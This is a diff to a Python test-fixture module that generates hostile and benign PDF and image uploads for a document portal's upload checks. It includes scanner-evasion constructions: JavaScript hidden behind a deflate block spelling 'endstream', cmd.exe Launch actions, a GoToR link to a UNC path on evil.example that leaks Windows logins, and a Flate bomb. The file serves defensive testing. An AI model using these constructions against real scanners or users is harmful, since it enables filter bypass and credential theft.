@@ -1,4 +1,4 @@
-"""Uploads to throw at verification.uploads, generated in code: bad ones with the code each must get, good ones.
+"""Uploads to throw at the upload checks (``uploads``), made in code: bad ones with the code each must get, good ones.
 
 Every upload test in the portal reuses these. A photo upload (JPEG, PNG) expects ``BadUpload.code``; an upload
 that also takes PDFs (the signed "gagal 3 kali" statement) expects ``BadUpload.expected(DOCUMENT_KINDS)``,
@@ -24,8 +24,9 @@ from dataclasses import dataclass
 from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image, ImageCms, ImageDraw, PngImagePlugin
+from pypdf import PdfWriter
 
-from verification.uploads import DOCUMENT_KINDS, PHOTO_KINDS, FileKind, UploadErrorCode
+from uploads import DOCUMENT_KINDS, PHOTO_KINDS, FileKind, UploadErrorCode
 
 E = UploadErrorCode
 
@@ -131,23 +132,99 @@ def pdf_stream(dictionary: bytes, data: bytes, *, compress: bool = True) -> byte
 
 
 def letter_pdf(
-    *, catalog_extra: bytes = b"", page_extra: bytes = b"", more: tuple[bytes, ...] = (), **options
+    *,
+    catalog_extra: bytes = b"",
+    page_extra: bytes = b"",
+    more: tuple[bytes, ...] = (),
+    open_action: bytes = b"[3 0 R /Fit]",
+    link: bytes = b"<< /S /GoTo /D [3 0 R /Fit] >>",
+    **options,
 ) -> bytes:
-    """A one-page "surat pernyataan": Helvetica text in a compressed content stream, a benign /OpenAction
-    (open at page 1, fit) and an https link, as word processors write them."""
+    """A one-page "surat pernyataan": Helvetica text in a compressed content stream, an /OpenAction that is only
+    a destination (open at page 1, fit, as word processors and fpdf2 write it) and a link within the page."""
     content = b"BT /F1 16 Tf 72 760 Td (SURAT PERNYATAAN) Tj 0 -24 Td (Saya yang bertanda tangan) Tj ET"
     objects = [
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit]%s >>" % catalog_extra,
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s%s >>" % (open_action, catalog_extra),
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
         b"/Contents 5 0 R /Annots [6 0 R]%s >>" % page_extra,
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         pdf_stream(b"", content),
-        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
-        b"/A << /S /URI /URI (https://www.prakerja.go.id/) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A %s >>" % link,
         *more,
     ]
     return pdf(objects, **options)
+
+
+def pdf_with_xref_stream(objects: dict[int, bytes], packed: dict[int, tuple[int, int]]) -> bytes:
+    """A PDF 1.5 whose cross-reference is a stream, so objects can live in object streams: ``objects`` are the
+    top-level bodies by number, ``packed`` maps each object kept in an object stream to (that stream's number,
+    its index there). Object 1 is the catalog; the cross-reference stream takes the next free number."""
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, body in sorted(objects.items()):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref_number = max([*objects, *packed]) + 1
+    offsets[xref_number] = len(out)
+    rows = []
+    for number in range(xref_number + 1):
+        if number in offsets:
+            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
+        elif number in packed:
+            rows.append(struct.pack(">BIH", 2, *packed[number]))
+        else:
+            rows.append(struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0))
+    table = b"".join(rows)
+    dictionary = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (xref_number + 1, len(table))
+    out += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (xref_number, dictionary, table)
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
+    return bytes(out)
+
+
+def object_stream_content(objects: list[tuple[int, bytes]]) -> tuple[bytes, bytes]:
+    """(header, objects) of an object stream's decoded data: "number offset" pairs, then the objects."""
+    header, body = b"", b""
+    for number, text in objects:
+        header += b"%d %d " % (number, len(body))
+        body += text + b" "
+    return header, body
+
+
+def zlib_stored_then_deflated(first: bytes, rest: bytes) -> bytes:
+    """One valid zlib stream in two deflate blocks: ``first`` stored as is (readable in the file's bytes),
+    ``rest`` compressed."""
+    stored = b"\x00" + struct.pack("<HH", len(first), len(first) ^ 0xFFFF) + first  # BFINAL 0, BTYPE 00
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    deflated = compressor.compress(rest) + compressor.flush()
+    return b"\x78\x01" + stored + deflated + struct.pack(">I", zlib.adler32(first + rest))
+
+
+def _letter_objects() -> dict[int, bytes]:
+    """Objects 2-5 of ``letter_pdf`` (pages, page, font, content) for PDFs built around another catalog."""
+    content = b"BT /F1 16 Tf 72 760 Td (SURAT PERNYATAAN) Tj ET"
+    return {
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
+        b"/Contents 5 0 R >>",
+        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        5: pdf_stream(b"", content),
+    }
+
+
+def pdf_javascript_behind_endstream() -> bytes:
+    """The security review's finding: a compressed object stream whose first deflate block (stored, so its
+    bytes are plain in the file) holds the word ``endstream``, and whose next block holds the catalog with an
+    /OpenAction that runs JavaScript. A scanner that ends the stream at the first ``endstream`` inflates only
+    the truncated start, and never sees the catalog."""
+    decoy = b"(endstream)"
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
+    header, body = object_stream_content([(8, decoy), (1, catalog)])
+    data = zlib_stored_then_deflated(header + body[: len(decoy) + 1], body[len(decoy) + 1 :])
+    objstm = b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
+        len(header), len(data), data
+    )
+    return pdf_with_xref_stream({**_letter_objects(), 6: objstm}, {8: (6, 0), 1: (6, 1)})
 
 
 def heic_header() -> bytes:
@@ -260,20 +337,27 @@ def _encrypted_pdf() -> bytes:
     return letter_pdf(more=(encrypt,), trailer=b" /Encrypt 7 0 R /ID [%s %s]" % (file_id, file_id))
 
 
+def _pdf_with_packed_link_action(action: bytes, objstm_extra: bytes = b"") -> bytes:
+    """A PDF 1.5 whose page's link runs ``action``, an object packed (compressed) in an object stream."""
+    objects = _letter_objects()
+    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R /Annots [7 0 R]")
+    objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 8 0 R >>"
+    header, body = object_stream_content([(8, action), (1, b"<< /Type /Catalog /Pages 2 0 R >>")])
+    objects[6] = pdf_stream(b"/Type /ObjStm /N 2 /First %d%s" % (len(header), objstm_extra), header + body)
+    return pdf_with_xref_stream(objects, {8: (6, 0), 1: (6, 1)})
+
+
 def _pdf_javascript_in_object_stream() -> bytes:
     """JavaScript hidden the way PDF 1.5+ hides dictionaries: compressed in an object stream, and its names
     spelled with #xx escapes (/J#61vaScript is /JavaScript)."""
-    hidden = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
-    header = b"8 0 "
-    objstm = pdf_stream(b"/Type /Obj#53tm /N 1 /First %d" % len(header), header + hidden)
-    return letter_pdf(catalog_extra=b" /AA << /WC 8 0 R >>", more=(objstm,), version=b"1.5")
+    return _pdf_with_packed_link_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
 
 
 def _pdf_javascript_in_object_stream_posing_as_image() -> bytes:
     """An object stream that also calls itself an image, hoping a checker skips pictures."""
-    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
-    objstm = pdf_stream(b"/Subtype /Image /Width 1 /Height 1 /N 1 /First 4", b"8 0 " + hidden)
-    return letter_pdf(catalog_extra=b" /OpenAction 8 0 R", more=(objstm,), version=b"1.5")
+    return _pdf_with_packed_link_action(
+        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b" /Subtype /Image /Width 1 /Height 1"
+    )
 
 
 def _pdf_with_scanned_page() -> bytes:
@@ -293,6 +377,50 @@ def _pdf_embedded_file() -> bytes:
     filespec = b"<< /Type /Filespec /F (surat.exe) /EF << /F 8 0 R >> >>"
     names = b" /Names << /EmbeddedFiles << /Names [(surat.exe) 7 0 R] >> >>"
     return letter_pdf(catalog_extra=names, more=(filespec, embedded))
+
+
+def _pdf_rewritten_by_pypdf(edit: Callable[[PdfWriter], None], *, incremental: bool = False) -> bytes:
+    """``clean_pdf`` after ``edit``, written by pypdf's writer, as tools that post-process PDFs write them;
+    ``incremental`` appends the changes as an update after the original bytes, as signing apps do."""
+    writer = PdfWriter(io.BytesIO(clean_pdf()), incremental=incremental)
+    edit(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _pdf_encrypted_by_pypdf(algorithm: str) -> bytes:
+    """Encrypted with an owner password only, so any viewer opens it without asking: still not inspectable."""
+    return _pdf_rewritten_by_pypdf(lambda writer: writer.encrypt("", "pemilik", algorithm=algorithm))
+
+
+def _pdf_attachment_by_pypdf() -> bytes:
+    """An attachment as pypdf (and Acrobat) add one: an /EmbeddedFiles name tree in the catalog's /Names."""
+    return _pdf_rewritten_by_pypdf(lambda writer: writer.add_attachment("surat.exe", _exe()))
+
+
+def _pdf_with_raw_stream(dictionary: bytes, data: bytes) -> bytes:
+    """``letter_pdf`` with one more stream (object 7), its data as given."""
+    return letter_pdf(more=(pdf_stream(dictionary, data, compress=False),))
+
+
+def _pdf_truncated_flate() -> bytes:
+    """A Flate stream cut short with its /Length to match: every offset right, only inflating to the end tells."""
+    drawing = b"BT /F1 12 Tf 72 700 Td (Tanda tangan) Tj ET\n" * 200
+    return _pdf_with_raw_stream(b"/Filter /FlateDecode", zlib.compress(drawing)[:-40])
+
+
+def _pdf_flate_bomb(size: int = 200 * 1024 * 1024) -> bytes:
+    """200 MB of zeros in ~200 KB of Flate: refused while inflating, never inflated whole."""
+    compressor = zlib.compressobj(9)
+    block = bytes(1024 * 1024)
+    data = b"".join(compressor.compress(block) for _ in range(size // len(block))) + compressor.flush()
+    return _pdf_with_raw_stream(b"/Filter /FlateDecode", data)
+
+
+def _pdf_with_xfa() -> bytes:
+    xdp = pdf_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
+    return letter_pdf(catalog_extra=b" /AcroForm << /Fields [] /XFA 7 0 R >>", more=(xdp,))
 
 
 # --- The catalogue ------------------------------------------------------------------------------------
@@ -399,6 +527,10 @@ def _cached(factory: Callable[[], bytes]) -> Callable[[], bytes]:
     return functools.cache(factory)
 
 
+def _letter_with(**options) -> Callable[[], bytes]:
+    return functools.cache(lambda: letter_pdf(**options))
+
+
 def _image(size: tuple[int, int], fmt: str, mode: str = "RGB") -> Callable[[], bytes]:
     return functools.cache(lambda: encode(card_image(size, mode=mode), fmt))
 
@@ -408,6 +540,11 @@ _HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html
 _JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 _LAUNCH = b" /AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>"
 _JS_LINK = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
+_URI_ACTION = b"<< /S /URI /URI (https://prakerja.example/masuk/) >>"
+_LAUNCH_ACTION = b"<< /S /Launch /F (cmd.exe) >>"
+_GOTOR_ACTION = b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"  # leaks a Windows login
+_PAGE_AA = b" /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"
+_PRINT_ACTION = b"<< /S /Named /N /Print >>"
 
 BAD_UPLOADS: list[BadUpload] = [
     # Size
@@ -503,6 +640,23 @@ BAD_UPLOADS: list[BadUpload] = [
     _pdf("PDF with an embedded file", _cached(_pdf_embedded_file), E.PDF_ACTIVE_CONTENT),
     _pdf("PDF with a javascript: link", _cached(lambda: letter_pdf(more=(_JS_LINK,))), E.PDF_ACTIVE_CONTENT),
     _pdf("encrypted PDF", _cached(_encrypted_pdf), E.PDF_ENCRYPTED),
+    _pdf(
+        "PDF hiding JavaScript behind a deflate block that spells endstream",
+        _cached(pdf_javascript_behind_endstream),
+        E.PDF_ACTIVE_CONTENT,
+    ),
+    _pdf("PDF with a web link (URI action)", _cached(lambda: letter_pdf(link=_URI_ACTION)), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF with a link that launches a program", _letter_with(link=_LAUNCH_ACTION), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF with a link to a remote PDF (GoToR)", _letter_with(link=_GOTOR_ACTION), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF with an attachment added by pypdf", _cached(_pdf_attachment_by_pypdf), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF with an XFA form", _cached(_pdf_with_xfa), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF with an action when its page opens (AA)", _letter_with(page_extra=_PAGE_AA), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF whose OpenAction runs JavaScript", _letter_with(open_action=_JS_ACTION), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF whose OpenAction prints it", _letter_with(open_action=_PRINT_ACTION), E.PDF_ACTIVE_CONTENT),
+    _pdf("PDF encrypted with RC4 by pypdf", _cached(lambda: _pdf_encrypted_by_pypdf("RC4-128")), E.PDF_ENCRYPTED),
+    _pdf("PDF encrypted with AES by pypdf", _cached(lambda: _pdf_encrypted_by_pypdf("AES-256")), E.PDF_ENCRYPTED),
+    _pdf("PDF with a truncated Flate stream", _cached(_pdf_truncated_flate), E.CORRUPT),
+    _pdf("PDF with a Flate bomb", _cached(_pdf_flate_bomb), E.CORRUPT),
     _pdf("truncated PDF", _cut(clean_pdf, 2 / 3), E.CORRUPT),
     _pdf("PDF header then garbage", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 4, E.CORRUPT),
     _pdf("PDF with HTML after %%EOF", _append(clean_pdf, _HTML_PAGE), E.HIDDEN_CONTENT),
@@ -535,8 +689,8 @@ def _sixteen_bit_png() -> bytes:
 
 
 def _object_stream_pdf() -> bytes:
-    note = pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"8 0 << /Type /Annot /Subtype /Text /Contents (Tanda tangan) >>")
-    return letter_pdf(more=(note,), version=b"1.5")
+    """How PDF 1.5+ writers store dictionaries: the catalog and a note packed in a compressed object stream."""
+    return _pdf_with_packed_link_action(b"<< /S /GoTo /D [3 0 R /FitH 842] >>")
 
 
 _DOCUMENT = {"allowed": DOCUMENT_KINDS, "content_type": "application/pdf"}
@@ -572,6 +726,27 @@ GOOD_UPLOADS: list[GoodUpload] = [
     GoodUpload("upper-case extension and a Windows path", "C:\\fakepath\\KTP.JPG", small_jpeg, FileKind.JPEG),
     GoodUpload("clean PDF letter", "surat-pernyataan.pdf", clean_pdf, FileKind.PDF, **_DOCUMENT),
     GoodUpload("PDF 1.5 with an object stream", "surat.pdf", _cached(_object_stream_pdf), FileKind.PDF, **_DOCUMENT),
+    GoodUpload(
+        "PDF whose OpenAction is a GoTo action",
+        "surat.pdf",
+        _cached(lambda: letter_pdf(open_action=b"<< /S /GoTo /D [3 0 R /Fit] >>")),
+        FileKind.PDF,
+        **_DOCUMENT,
+    ),
+    GoodUpload(
+        "PDF rewritten by pypdf",
+        "surat.pdf",
+        _cached(lambda: _pdf_rewritten_by_pypdf(lambda writer: writer.compress_identical_objects())),
+        FileKind.PDF,
+        **_DOCUMENT,
+    ),
+    GoodUpload(
+        "PDF with an incremental update (a signing app's save)",
+        "surat.pdf",
+        _cached(lambda: _pdf_rewritten_by_pypdf(lambda w: w.add_metadata({"/Title": "Surat"}), incremental=True)),
+        FileKind.PDF,
+        **_DOCUMENT,
+    ),
     GoodUpload(
         "PDF with a scanned page whose pixels spell /JS",
         "scan.pdf",
